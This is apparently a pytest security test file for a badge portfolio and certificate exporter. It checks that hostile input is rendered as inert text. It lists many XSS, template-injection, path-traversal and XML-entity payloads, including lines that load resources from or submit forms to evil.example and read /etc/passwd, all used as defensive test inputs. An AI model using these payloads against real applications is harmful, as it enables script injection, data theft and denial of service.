"""Attacks on whoever opens an export (security.md section 6): everything foreign arrives as text, or not at all."""

from __future__ import annotations

import io
import subprocess
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from pypdf import PdfReader

from exporters.certificate import render_certificate
from exporters.model import Presentation
from exporters.narrative import narrative
from exporters.pictures import picture, raster
from exporters.portfolio import render_portfolio
from exporters.words import public_link, slug
from tests.generate.presentations import BADGE_SVG, a_pathway, a_presentation, a_source, badge_png, png_of_size
from wallet.model import Alignment, Text

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/t.png'>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "![x](http://evil.example/t.png)",
    "![x](javascript:alert(1))",
    "<http://evil.example/?access_token=1>",
    "[x]: javascript:alert(1)\n[x]",
    "<style>@import url(http://evil.example/a.css)</style>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=p></form>",
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    '#read("/etc/passwd") #eval("1") #panic()',
    "$ sum $ @cite <label> *bold* _it_ `raw` \\u{41} // comment",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "[bold red]rich[/] [link=http://evil.example]x[/link]",
    "abc\u202egnp.exe\u202c\u2066x\u2069",
    "zero\u200bwidth\u2060joined\ufeff",
    "line\u2028separator\u2029here",
    "nul\x00 \x08 \x85 \ud800 lone",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307a",
    "&lt;script&gt;&#x3c;script&#x3e;",
)
_ALLOWED = {"html", "head", "meta", "title", "link", "style", "script", "body", "a", "div", "header", "main", "section"} | {
    "article", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "dl", "dt", "dd", "span", "strong", "em",
    "bdi", "br", "code", "pre", "blockquote", "details", "summary", "time", "img", "svg", "path", "circle", "rect", "text",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Strict(HTMLParser):
    """Collects all that a browser could act on."""

    def __init__(self, html: bytes) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.text: list[str] = []
        self.feed(html.decode("utf-8"))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag not in _ALLOWED:
            self.faults.append(f"element {tag}")
        if tag == "script" and given.get("type") not in ("application/ld+json", "application/json"):
            self.faults.append("script that runs")
        for name, value in given.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "ping", "srcset", "background"):
                self.faults.append(f"attribute {name}")
            if name == "src" and not value.startswith("data:image/png;base64,"):
                self.faults.append(f"src {value[:40]}")
            if name == "href":
                fine = value.startswith(("http://", "https://", "mailto:", "#"))
                fine = fine or ("download" in given and value.startswith("data:"))
                fine = fine or (tag == "link" and value == "data:,")
                if not fine:
                    self.faults.append(f"href {value[:40]}")
        if tag == "meta" and given.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy":
            self.faults.append("meta that acts")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _full_of(text: str, *, in_names: bool = True) -> Presentation:
    """A presentation that says `text` wherever a badge, an issuer, a learner or a pathway can say something."""
    foreign = Text.of(text)
    source = a_source(
        text if in_names else "Badge",
        issuer=text,
        criteria=text,
        description=text,
        alignments=(Alignment(foreign, text, foreign, text, text), Alignment(foreign, "javascript:alert(1)")),
    )
    assert source.credential is not None and source.credential.achievement is not None
    achievement = replace(source.credential.achievement, tags=(text,), issuer_id=text)
    credential = replace(source.credential, achievement=achievement, narrative=foreign, revocation_reason=text)
    shown = a_presentation(replace(source, credential=credential, served_by=text), person=text)
    return replace(shown, pathways=(a_pathway(),))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_page_full_of_it_holds_nothing_that_acts(text: str) -> None:
    page = Strict(render_portfolio(_full_of(text)))
    assert page.faults == []
    shown = "".join(page.text)
    for character in "\x00\x07\x08\x1b\x85\u200b\u202e\u2060\u2066\ufeff":
        assert character not in shown


def test_all_of_it_at_once_is_one_certificate_of_plain_text() -> None:
    for text in ("; ".join(HOSTILE[:20]), "; ".join(HOSTILE[20:34]), "; ".join(HOSTILE[34:])):
        shown = _full_of(text)
        pdf = PdfReader(io.BytesIO(render_certificate(shown, shown.badges[0].id)))
        assert set(pdf.attachments) == {"assertion.json", "badge.png"}
        links = [a.get_object() for page in pdf.pages for a in page.get("/Annots", [])]
        assert links == []


@pytest.mark.parametrize(
    "text", ["\x1b[31mred\x1b[0m", "[bold red]rich[/]", "abc\u202egnp.exe", '#read("/etc/passwd")']
)
def test_a_badge_name_is_harmless_text_on_paper(text: str) -> None:
    shown = _full_of(text)
    pdf = PdfReader(io.BytesIO(render_certificate(shown, shown.badges[0].id)))
    words = " ".join(page.extract_text() for page in pdf.pages)
    assert "\x1b" not in words
    assert "\u202e" not in words
    assert text.replace("\x1b", "\ufffd").replace("\u202e", "\ufffd").split()[0] in words.replace("\n", " ")


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "https://user:pass@host.example/",
        "https://host.example/?token=1",
        "https://host.example/#access_token=1",
        "https://host.example/?X-Amz-Signature=1",
        "https://host.example/a b",
        "https://host.example/\n",
        'https://host.example/"onclick=x',
        "https:///nohost",
        "https://host.example:notaport/",
        "https://[::1/",
        "//host.example/",
        "",
    ],
)
def test_an_address_that_acts_or_tells_is_not_printed(url: str) -> None:
    assert public_link(url) is None


def test_a_look_alike_host_shows_as_ascii() -> None:
    assert public_link("https://аpple.example/ä") == "https://xn--pple-43d.example/%C3%A4"


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "CON", "nul", "\x00", "a" * 300, "ä/ö\\ü:*?", "...", "مريم", "-rf"]
)
def test_a_file_name_is_plain_and_short(name: str) -> None:
    made = slug(name, "ab" * 32)
    assert made.endswith("-abababab")
    assert len(made) <= 60
    assert all(c.isascii() and (c.isalnum() or c == "-") for c in made)
    assert not made.startswith("-")
    assert made.split("-")[0] not in ("con", "nul")


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200">{}</svg>'
_USES = "".join(f'<g id="a{i}">' + f'<use href="#a{i - 1}"/>' * 10 + "</g>" for i in range(1, 12))


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(png_of_size(60_000, 60_000), id="a PNG that claims 3.6 billion pixels"),
        pytest.param(png_of_size(0, 5), id="a PNG without width"),
        pytest.param(png_of_size(200, 200), id="a PNG without pixels"),
        pytest.param(badge_png()[:200], id="a PNG cut short"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + b"\xff" * 40, id="a PNG of nonsense"),
        pytest.param(b"GIF89a" + bytes(40), id="another kind of picture"),
        pytest.param(b"<svg/>", id="an SVG in no namespace"),
        pytest.param(b"<svg", id="an SVG cut short"),
        pytest.param(_SVG.format('<g id="a0"><path d="M0 0h9"/></g>' + _USES).encode(), id="uses that double"),
        pytest.param(_SVG.format('<g id="a"><use href="#a"/></g>').encode(), id="a use of itself"),
        pytest.param(
            b"<!DOCTYPE s [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>]>" + _SVG.format("&b;").encode(), id="entities"
        ),
        pytest.param(
            b'<!DOCTYPE s SYSTEM "file:///etc/passwd">' + _SVG.format("").encode(),
            id="an external subset",
        ),
        pytest.param(_SVG.format("<g>" * 400 + "</g>" * 400).encode(), id="too deep"),
        pytest.param(
            _SVG.format(
                '<filter id="f" x="-1e6" y="-1e6" width="1e8" height="1e8"><feGaussianBlur stdDeviation="5000"/></filter>'
                '<path d="M0 0h99v99" filter="url(#f)"/>'
            ).encode(),
            id="a filter that makes Typst panic",
        ),
        pytest.param(b"x" * (10 * 2**20 + 1), id="too big"),
    ],
)
def test_a_picture_that_cannot_be_shown_safely_leaves_its_place_to_a_placeholder(data: bytes) -> None:
    assert picture(data) is None
    assert raster(data) is None
    shown = a_presentation(a_source(picture=data))
    assert shown.badges[0].picture is None
    assert b"No badge image" in render_portfolio(shown)


@pytest.mark.slow
def test_a_drawing_that_never_ends_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("exporters.pictures._DRAWING_SECONDS", 1.0)
    endless = _SVG.format(
        '<filter id="f"><feTurbulence baseFrequency="9" numOctaves="100000"/></filter><path d="M0 0h99v99" filter="url(#f)"/>'
    )
    assert picture(endless.encode()) is None


def test_an_svg_cannot_fetch_or_read_anything() -> None:
    for inside in ("/etc/passwd", "http://127.0.0.1:9/x.png", "draw.typ", "picture.svg"):
        shown = picture(_SVG.format(f'<image href="{inside}" width="200" height="200"/><path d="M0 0h9v9"/>').encode())
        assert shown is None or len(shown.data) < 5_000


def test_what_a_picture_hides_beside_its_pixels_is_not_shown() -> None:
    from PIL import Image, PngImagePlugin

    hidden = PngImagePlugin.PngInfo()
    hidden.add_itxt("openbadges", "secret-canary")
    hidden.add_text("Comment", "secret-canary")
    out = io.BytesIO()
    Image.new("RGB", (40, 40), "#123456").save(out, "PNG", pnginfo=hidden)
    shown = picture(out.getvalue())
    assert shown is not None
    assert b"secret-canary" not in shown.data


def test_a_drawn_badge_is_a_small_png() -> None:
    shown = picture(BADGE_SVG)
    assert shown is not None
    assert shown.data.startswith(b"\x89PNG")
    assert max(shown.width, shown.height) == 512


def test_markdown_keeps_its_words_and_loses_its_teeth() -> None:
    told = narrative(
        "# Title\n\n<b>raw</b> ![alt words](http://t.example/p.png) [ok](https://a.example/) [no](https://a@b.example/)"
    )
    assert told is not None
    assert "<h4>Title</h4>" in told.html
    assert "&lt;b&gt;raw&lt;/b&gt; alt words" in told.html
    assert 'href="https://a.example/"' in told.html
    assert "a@b.example" not in told.html
    assert "<img" not in told.html
    assert narrative(" \n ") is None


def test_markdown_that_nests_and_repeats_without_end_costs_little() -> None:
    for text in (
        "> " * 5_000 + "x",
        "[" * 20_000,
        "*" * 20_000,
        "- " * 5_000,
        "`" * 20_000,
        "![" * 9_000,
        "|" * 20_000,
    ):
        assert narrative(text) is None or len(narrative(text).html) < 200_000  # type: ignore[union-attr]


@pytest.mark.browser
def test_a_browser_has_nothing_to_complain_of_and_nothing_to_fetch(tmp_path: Path) -> None:
    from shutil import which

    chromium = which("chromium") or which("chromium-browser") or which("google-chrome")
    if chromium is None:
        pytest.skip("no Chromium on this computer")
    target = tmp_path / "portfolio.html"
    target.write_bytes(render_portfolio(_full_of("; ".join(HOSTILE[:36]))))
    log = tmp_path / "net.json"
    done = subprocess.run(
        [
            chromium,
            *("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"),
            *("--enable-logging=stderr", "--v=0", "--window-size=320,900"),
            *(f"--user-data-dir={tmp_path / 'profile'}", f"--log-net-log={log}"),
            *(f"--screenshot={tmp_path / 'shot.png'}", target.as_uri()),
        ],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert (tmp_path / "shot.png").exists(), done.stderr[-2_000:]
    assert "CONSOLE" not in done.stderr
    assert "evil.example" not in log.read_text("utf-8", "replace")
